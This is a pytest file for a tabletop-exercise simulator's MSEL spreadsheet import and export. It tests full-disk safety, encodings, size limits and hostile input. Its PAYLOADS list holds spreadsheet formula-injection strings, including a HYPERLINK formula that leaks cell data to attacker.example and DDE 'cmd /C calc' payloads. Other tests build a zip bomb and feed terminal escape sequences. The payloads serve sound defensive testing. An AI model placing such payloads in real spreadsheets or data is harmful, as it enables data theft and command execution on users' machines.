"""MSEL sheets as a hostile file, a full disk and a careless user would make them (issue 10).

Each test drives `ttxsim msel ...` (or the function behind it) and looks at what
the user gets: the exit code, the one sentence on stderr, and the files left.
"""

from __future__ import annotations

import csv
import errno
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from sim import msel
from sim.cli import main
from sim.msel import MselError, export_msel, import_msel, read_sheet
from sim.scenario.loader import load_scenario
from sim.scenario.schema import Scenario
from tests.conftest import DEFAULT_SCENARIO, MINIMAL_SCENARIO

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already marked as text",
    "''",
    "'plain quote",
    "'",
]
HEADER = "Control Number,Scenario Time,To,Synopsis\n"


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _scenario(synopses: list[str]) -> Scenario:
    return Scenario.model_validate(
        {
            "scenario": {"id": "x", "title": "x", "start": "2027-04-05T06:00:00+09:00", "horizon": "3d"},
            "agencies": [{"id": "a", "name": "A", "kind": "executive"}],
            "injects": [
                {"id": f"m{i}", "at": 60.0 * i, "to": ["a"], "synopsis": text, "notes": text, "method": "@phone"}
                for i, text in enumerate(synopses)
            ],
        }
    )


# ---------------------------------------------------------------------------
# Nothing entered is lost: a full disk leaves the scenario as it was
# ---------------------------------------------------------------------------


class _DiskFullStream:
    """A file that takes half of what it is given, then reports a full disk (ENOSPC)."""

    def __init__(self, stream):
        self._stream = stream

    def write(self, data):
        self._stream.write(data[: len(data) // 2])
        self._stream.flush()
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        self._stream.close()
        return False

    def __getattr__(self, name):
        return getattr(self._stream, name)


def _disk_full(monkeypatch) -> None:
    real_fdopen = os.fdopen
    monkeypatch.setattr(os, "fdopen", lambda *args, **kwargs: _DiskFullStream(real_fdopen(*args, **kwargs)))


def _edited_sheet(scenario, folder: Path, synopsis: str) -> Path:
    sheet = export_msel(scenario, folder / "msel.csv")
    rows = list(csv.reader(sheet.open(encoding="utf-8-sig", newline="")))
    rows[1][5] = synopsis
    with sheet.open("w", encoding="utf-8-sig", newline="") as out:
        csv.writer(out).writerows(rows)
    return sheet


def test_import_into_on_a_full_disk_leaves_the_scenario_byte_identical(sakishima, tmp_path, capsys, monkeypatch):
    target = tmp_path / "s.yaml"
    shutil.copy(DEFAULT_SCENARIO, target)
    before = target.read_bytes()
    sheet = _edited_sheet(sakishima, tmp_path, "A longer synopsis. " * 100)
    _disk_full(monkeypatch)
    code, _, err = _run(capsys, "msel", "import", str(sheet), "--into", str(target))
    assert code == 1, err
    assert err.count("\n") == 1 and "disk is full" in err and str(target) in err and "Traceback" not in err
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["msel.csv", "s.yaml"]  # no temporary file left


def test_export_on_a_full_disk_keeps_the_previous_sheet(tmp_path, capsys, monkeypatch):
    out = tmp_path / "msel.csv"
    out.write_text("previous sheet\n")
    _disk_full(monkeypatch)
    code, _, err = _run(capsys, "msel", "export", str(DEFAULT_SCENARIO), "--out", str(out))
    assert code == 1 and err.count("\n") == 1 and "disk is full" in err
    assert out.read_text() == "previous sheet\n"


@pytest.mark.slow
def test_import_into_on_a_full_tmpfs_leaves_the_scenario_byte_identical(sakishima, tmp_path, capsys):
    """A real full file system: the new scenario is larger than the old one plus the free space."""
    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True, text=True, check=False
    )
    if mounted.returncode != 0:
        pytest.skip(f"needs root to mount a small tmpfs: {mounted.stderr.strip()}")
    try:
        target = disk / "s.yaml"
        shutil.copy(DEFAULT_SCENARIO, target)
        before = target.read_bytes()
        sheet = _edited_sheet(sakishima, tmp_path, "A much longer synopsis. " * 1000)  # +24 KB
        filler = os.open(disk / "filler", os.O_WRONLY | os.O_CREAT)
        try:
            while True:
                os.write(filler, b"\0" * 4096)
        except OSError as error:
            assert error.errno == errno.ENOSPC
        finally:
            os.close(filler)
        code, _, err = _run(capsys, "msel", "import", str(sheet), "--into", str(target))
        assert code == 1, err
        assert err.count("\n") == 1 and "disk is full" in err
        assert target.read_bytes() == before
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "s.yaml"]
    finally:
        subprocess.run(["umount", str(disk)], check=True)


# ---------------------------------------------------------------------------
# Untrusted text never runs
# ---------------------------------------------------------------------------


def test_csv_export_neutralises_formulas_and_import_gives_them_back(tmp_path):
    """Every cell a spreadsheet would evaluate starts with an apostrophe; import removes exactly it."""
    scenario = _scenario(PAYLOADS)
    sheet = export_msel(scenario, tmp_path / "msel.csv")
    rows = list(csv.reader(sheet.open(encoding="utf-8-sig", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    synopses = [row[5] for row in rows[1:]]
    assert synopses[:6] == ["'" + text for text in PAYLOADS[:6]]
    assert synopses[6:] == ["''=already marked as text", "'''", "'plain quote", "'"]
    assert all(row[4] == "'@phone" for row in rows[1:])
    assert import_msel(sheet) == list(scenario.injects)


def test_hand_typed_apostrophe_before_a_formula_reads_as_text(tmp_path):
    sheet = tmp_path / "typed.csv"
    sheet.write_text(HEADER + "m1,H+1,a,'=1+1\nm2,H+2,a,'quoted'\n", encoding="utf-8")
    assert [i.synopsis for i in import_msel(sheet)] == ["=1+1", "'quoted'"]


def test_xlsx_export_stores_formulas_as_text(tmp_path):
    import openpyxl

    payloads = [text for text in PAYLOADS if "\r" not in text]  # XML reads a lone CR as a line feed
    scenario = _scenario(payloads)
    sheet = export_msel(scenario, tmp_path / "msel.xlsx")
    with zipfile.ZipFile(sheet) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = openpyxl.load_workbook(sheet)
    column = list(book["MSEL"]["F"][1:])
    assert [cell.value for cell in column] == payloads
    assert {cell.data_type for cell in column} == {"s"}
    assert import_msel(sheet) == list(scenario.injects)


# ---------------------------------------------------------------------------
# Encodings
# ---------------------------------------------------------------------------

JAPANESE_SHEET = HEADER + "m1,D+0 H+1 M+0,cabinet,観光客の避難を開始する\nm2,H+2,cabinet,ｶﾝｺｳｷｬｸ\n"


def test_cp932_csv_imports_with_encoding_cp932(tmp_path, capsys):
    sheet = tmp_path / "japanese.csv"
    sheet.write_bytes(JAPANESE_SHEET.encode("cp932"))
    code, out, err = _run(capsys, "msel", "import", str(sheet), "--encoding", "cp932")
    assert code == 0, err
    assert "2 injects" in out
    assert [i.synopsis for i in import_msel(sheet, encoding="cp932")] == ["観光客の避難を開始する", "ｶﾝｺｳｷｬｸ"]


def test_cp932_csv_without_encoding_is_refused_with_a_hint(tmp_path, capsys):
    sheet = tmp_path / "japanese.csv"
    sheet.write_bytes(JAPANESE_SHEET.encode("cp932"))
    code, out, err = _run(capsys, "msel", "import", str(sheet))
    assert code == 2 and out == ""
    assert err.count("\n") == 1
    assert err.startswith(f"{sheet}:2:")
    assert "not UTF-8" in err and "Shift-JIS" in err and "--encoding cp932" in err


def test_other_non_utf8_csv_is_refused_with_the_encoding_option(tmp_path, capsys):
    sheet = tmp_path / "western.csv"
    sheet.write_bytes((HEADER + "m1,H+1,cabinet,Caf\u00e9 r\u00e9sum\u00e9\n").encode("cp1252"))
    code, _, err = _run(capsys, "msel", "import", str(sheet))
    assert code == 2 and err.count("\n") == 1
    assert "not UTF-8" in err and "--encoding" in err and "Shift-JIS" not in err
    assert import_msel(sheet, encoding="cp1252")[0].synopsis == "Caf\u00e9 r\u00e9sum\u00e9"


def test_wrong_explicit_encoding_is_refused(tmp_path, capsys):
    sheet = tmp_path / "utf8.csv"
    sheet.write_bytes((HEADER + "m1,H+1,cabinet,\u00e9\u00e9\u00e9\u00e9\u00e9\n").encode("utf-8"))
    code, _, err = _run(capsys, "msel", "import", str(sheet), "--encoding", "ascii")
    assert code == 2 and "not ascii text" in err and "--encoding" in err
    code, _, err = _run(capsys, "msel", "import", str(sheet), "--encoding", "klingon")
    assert code == 2 and "unknown encoding 'klingon'" in err and err.count("\n") == 1


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-8-sig", "utf-32"])
@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_unicode_with_byte_order_mark_is_accepted(tmp_path, codec, delimiter):
    """UTF-16 with BOM (Excel's "Unicode Text" is UTF-16 with tabs) reads as what was typed."""
    text = JAPANESE_SHEET.replace(",", delimiter)
    data = text.encode(codec)
    if codec == "utf-16-be":
        data = b"\xfe\xff" + data
    sheet = tmp_path / "unicode.csv"
    sheet.write_bytes(data)
    assert [i.synopsis for i in import_msel(sheet)] == ["観光客の避難を開始する", "ｶﾝｺｳｷｬｸ"]


# ---------------------------------------------------------------------------
# XLSX: stale dimensions, zip bombs, huge cells and sheets
# ---------------------------------------------------------------------------

_SHEET_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s<sheetData>'
)
_SHEET_END = b"</sheetData></worksheet>"


def _inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def _header_row() -> bytes:
    return (
        b'<row r="1">'
        + b"".join(_inline(f"{c}1", t) for c, t in zip("ABCD", HEADER.strip().split(","), strict=True))
        + b"</row>"
    )


def _rewrite_sheet(skeleton: Path, out: Path, write_sheet) -> Path:
    """`skeleton` with its first worksheet's XML replaced by what `write_sheet(stream)` writes."""
    with zipfile.ZipFile(skeleton) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                entry = zipfile.ZipInfo(info.filename)
                entry.compress_type = zipfile.ZIP_DEFLATED
                with target.open(entry, "w", force_zip64=True) as stream:
                    write_sheet(stream)
            else:
                target.writestr(info, source.read(info))
    return out


@pytest.fixture
def skeleton(tmp_path) -> Path:
    return export_msel(_scenario(["x"]), tmp_path / "skeleton.xlsx")


def _sheet_with_rows(skeleton: Path, out: Path, rows: list[bytes], dimension: bytes = b"") -> Path:
    def write(stream):
        stream.write(_SHEET_XML % dimension)
        stream.write(_header_row())
        for row in rows:
            stream.write(row)
        stream.write(_SHEET_END)

    return _rewrite_sheet(skeleton, out, write)


def test_xlsx_with_a_stale_dimension_keeps_every_row(sakishima, tmp_path):
    sheet = export_msel(sakishima, tmp_path / "msel.xlsx")
    stale = tmp_path / "stale.xlsx"
    with zipfile.ZipFile(sheet) as source, zipfile.ZipFile(stale, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                start = data.index(b'<dimension ref="')
                end = data.index(b'"', start + 16)
                data = data[:start] + b'<dimension ref="A1:Q2' + data[end:]
            target.writestr(info, data)
    assert import_msel(stale) == list(sakishima.injects)


def test_zip_bomb_is_refused_before_anything_is_inflated(skeleton, tmp_path, capsys, monkeypatch):
    """A sheet part declaring more than the limit once unzipped is refused from the zip's directory alone."""
    import openpyxl

    def write(stream):
        stream.write(_SHEET_XML % b"")
        stream.write(_header_row() + b'<row r="2">' + b'<c r="A2" t="inlineStr"><is><t>')
        chunk = b"A" * 2**20
        for _ in range(msel.MAX_SHEET_BYTES // len(chunk) + 1):
            stream.write(chunk)
        stream.write(b"</t></is></c></row>" + _SHEET_END)

    bomb = _rewrite_sheet(skeleton, tmp_path / "bomb.xlsx", write)
    assert bomb.stat().st_size < 200_000  # small on disk, > 32 MiB inside

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    code, out, err = _run(capsys, "msel", "import", str(bomb))
    assert code == 2 and out == "" and err.count("\n") == 1
    assert err.startswith(f"{bomb}:1:1: sheet too large") and "once unzipped" in err


def test_huge_xlsx_cell_is_refused_with_its_position(skeleton, tmp_path):
    row = b'<row r="2">' + _inline("A2", "m1") + _inline("B2", "H+1") + _inline("C2", "a")
    row += _inline("D2", "x" * (msel.MAX_CELL_CHARS + 1)) + b"</row>"
    sheet = _sheet_with_rows(skeleton, tmp_path / "cell.xlsx", [row])
    with pytest.raises(MselError) as error:
        read_sheet(sheet)
    assert str(error.value) == f"{sheet}:2:4: row 2, column D: cell of 32,768 characters (the limit is 32,767)"


@pytest.mark.parametrize("length", [msel.MAX_CELL_CHARS + 1, 200_000])
def test_huge_csv_cell_is_refused(tmp_path, length):
    sheet = tmp_path / "cell.csv"
    sheet.write_text(HEADER + "m1,H+1,a," + "x" * length + "\n", encoding="utf-8")
    with pytest.raises(MselError, match=r"row 2.*(32,767|longer than)"):
        read_sheet(sheet)


def test_sheet_wider_than_the_cell_limit_is_refused(skeleton, tmp_path):
    """One cell in the last column makes each row 16,384 cells: refused after ~120 rows, not 16,384 x rows."""
    rows = [b'<row r="%d">' % n + _inline(f"XFD{n}", "x") + b"</row>" for n in range(2, 400)]
    sheet = _sheet_with_rows(skeleton, tmp_path / "wide.xlsx", rows, b'<dimension ref="A1:D2"/>')
    with pytest.raises(MselError, match=r"sheet too large \(more than 2,000,000 cells"):
        read_sheet(sheet)


def test_row_number_beyond_excel_is_refused(skeleton, tmp_path, monkeypatch):
    monkeypatch.setattr(msel, "MAX_SHEET_ROWS", 1000)  # the real limit (Excel's 1,048,576) takes seconds
    rows = [b'<row r="999999999">' + _inline("A999999999", "m1") + b"</row>"]
    sheet = _sheet_with_rows(skeleton, tmp_path / "far.xlsx", rows)
    with pytest.raises(MselError, match=r":1001:1: sheet too large \(more than 1,000 rows\)"):
        read_sheet(sheet)


def test_large_csv_file_is_refused_before_reading(tmp_path, monkeypatch):
    monkeypatch.setattr(msel, "MAX_SHEET_BYTES", 1000)
    sheet = tmp_path / "big.csv"
    sheet.write_text(HEADER + "m1,H+1,a,x\n" * 200, encoding="utf-8")
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("the file was read"))
    with pytest.raises(MselError, match=r"sheet too large \(2,\d\d\d bytes; the limit is 1,000 bytes\)"):
        read_sheet(sheet)


def test_not_a_regular_file_is_refused(tmp_path, capsys):
    """A FIFO as the sheet or as the --into scenario is refused, not read (which would wait forever)."""
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(MselError, match="not a regular file"):
        read_sheet(fifo)
    sheet = tmp_path / "ok.csv"
    sheet.write_text(HEADER + "m1,H+1,cabinet,x\n", encoding="utf-8")
    code, _, err = _run(capsys, "msel", "import", str(sheet), "--into", str(fifo))
    assert code == 2 and err == f"{fifo}:1:1: not a regular file\n"


# ---------------------------------------------------------------------------
# Many problems: the first 50 and a count
# ---------------------------------------------------------------------------


def _bad_rows(path: Path, count: int) -> Path:
    path.write_text(HEADER + "".join(f"m{n},tomorrow,a,x\n" for n in range(count)), encoding="utf-8")
    return path


def test_many_bad_rows_print_fifty_problems_and_a_count(tmp_path, capsys):
    sheet = _bad_rows(tmp_path / "bad.csv", 500)
    code, out, err = _run(capsys, "msel", "import", str(sheet))
    lines = err.splitlines()
    assert code == 2 and out == "" and len(lines) == 51
    assert lines[0].startswith(f"{sheet}:2:2: row 2, column B (Scenario Time):") and "tomorrow" in lines[0]
    assert lines[49].startswith(f"{sheet}:51:2:")
    assert lines[50] == f"{sheet}: \u2026 and 450 more problems"


@pytest.mark.slow
def test_hundred_thousand_bad_rows(tmp_path, capsys):
    sheet = _bad_rows(tmp_path / "bad.csv", 100_000)
    code, _, err = _run(capsys, "msel", "import", str(sheet))
    lines = err.splitlines()
    assert code == 2 and len(lines) == 51 and lines[-1] == f"{sheet}: \u2026 and 99,950 more problems"


def test_hostile_header_text_is_shown_safely(tmp_path, capsys):
    sheet = tmp_path / "header.csv"
    sheet.write_text("Control Number,To,Synopsis,\x1b]0;owned\x07\x1b[2J" + "y" * 100 + "\nm1,a,x,\n", encoding="utf-8")
    code, _, err = _run(capsys, "msel", "import", str(sheet))
    assert code == 2 and "\x1b" not in err and "\x07" not in err and "y" * 50 not in err
    assert "column D (\\x1b]0;owned\\x07\\x1b[2J" in err


def test_minimal_scenario_round_trip_through_cli(tmp_path, capsys):
    """The plain path still works end to end: export, import --into, the file loads."""
    target = tmp_path / "minimal.yaml"
    shutil.copy(MINIMAL_SCENARIO, target)
    sheet = tmp_path / "msel.csv"
    assert _run(capsys, "msel", "export", str(target), "--out", str(sheet))[0] == 0
    code, _, err = _run(capsys, "msel", "import", str(sheet), "--into", str(target))
    assert code == 0, err
    assert load_scenario(target).injects == load_scenario(MINIMAL_SCENARIO).injects
